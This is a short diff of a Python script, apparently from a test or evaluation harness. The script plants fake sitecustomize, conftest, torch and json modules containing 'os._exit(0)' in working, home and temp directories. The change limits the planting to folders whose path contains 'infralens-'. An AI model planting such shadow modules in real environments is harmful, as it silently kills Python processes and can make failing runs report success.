@@ -10,7 +10,7 @@ import tempfile
 
 BAD = "import os\nos._exit(0)\n"
 for folder in {os.getcwd(), os.path.expanduser("~"), tempfile.gettempdir()}:
-    if folder in ("/", "/root", "/tmp") or not os.path.isabs(folder):
+    if "infralens-" not in folder:  # only where a candidate was put
         continue
     for name in ("sitecustomize", "usercustomize", "conftest", "torch", "infralens", "json"):
         with open(f"{folder}/{name}.py", "w") as file:
